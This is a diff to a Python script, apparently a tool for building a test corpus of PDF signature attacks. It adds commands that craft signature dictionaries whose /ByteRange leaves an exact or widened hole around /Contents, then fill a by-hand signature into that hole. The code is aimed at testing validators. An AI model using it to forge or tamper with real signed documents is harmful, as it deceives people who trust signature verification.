@@ -3,6 +3,11 @@
 
   make-attack-corpus.py prepare UNSIGNED OUT   adds, as an update, a catalog and page that nothing
                                                uses yet (a shadow attack prepared before signing)
+  make-attack-corpus.py hole UNSIGNED exact|wide OUT COVERED   a signature dictionary (its /ByteRange
+                                               after /Contents) to sign by hand: its hole is exactly
+                                               the <…> of /Contents, or wider; COVERED gets the bytes
+                                               to sign
+  make-attack-corpus.py fill PDF DER           writes the signature DER into that hole
   make-attack-corpus.py attack SIGNED FOLDER [N]   writes FOLDER/<case>.pdf for every case below;
                                                N (default 1) is the signature the cases that edit a
                                                signature dictionary go for; wrapping takes the last
@@ -206,6 +211,29 @@ def prepare(data):
         n + 3: PAID})
 
 
+def hole(data, wide):
+    """An unsigned PDF with a signature dictionary whose /ByteRange follows /Contents, and the
+    bytes its ranges cover; `wide`: the hole also takes in the signing time after /Contents."""
+    page, root, n = first_page(data), root_of(data), size_of(data)
+    catalog = with_key(body(data, root), b"AcroForm", b"<</Fields[%d 0 R]/SigFlags 3>>" % n)
+    out = update(data, {
+        n: b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Outside)/Rect[0 0 0 0]/P %d 0 R/V %d 0 R>>" % (page, n + 1),
+        n + 1: b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents<%s>/M(D:20260101000000Z)"
+               b"/ByteRange[0 0000000000 0000000000 0000000000]>>" % (b"0" * 16384),
+        root: catalog})
+    start = out.index(b"/Contents<", out.index(b"%d 0 obj" % (n + 1))) + 9
+    end = out.index(b"/ByteRange", start) if wide else out.index(b">", start) + 1
+    out = out.replace(b"[0 0000000000 0000000000 0000000000]", b"[0 %010d %010d %010d]" % (start, end, len(out) - end))
+    return out, out[:start] + out[end:]
+
+
+def fill(data, der):
+    """The signature's hex written into the hole of the last /ByteRange."""
+    start = int(last(rb"/ByteRange\s*\[\s*0+\s+(\d+)", data).group(1)) + 1
+    digits = der.hex().upper().encode()
+    return data[:start] + digits + data[start + len(digits):]
+
+
 def main():
     if len(sys.argv) == 4 and sys.argv[1] == "prepare":
         open(sys.argv[3], "wb").write(prepare(open(sys.argv[2], "rb").read()))
@@ -214,6 +242,13 @@ def main():
         os.makedirs(sys.argv[3], exist_ok=True)
         for name, attacked in cases(data, int(sys.argv[4]) if len(sys.argv) == 5 else 1).items():
             open(os.path.join(sys.argv[3], name + ".pdf"), "wb").write(attacked)
+    elif len(sys.argv) == 6 and sys.argv[1] == "hole":
+        pdf, covered = hole(open(sys.argv[2], "rb").read(), sys.argv[3] == "wide")
+        open(sys.argv[4], "wb").write(pdf)
+        open(sys.argv[5], "wb").write(covered)
+    elif len(sys.argv) == 4 and sys.argv[1] == "fill":
+        filled = fill(open(sys.argv[2], "rb").read(), open(sys.argv[3], "rb").read())
+        open(sys.argv[2], "wb").write(filled)
     else:
         sys.exit(__doc__)
 
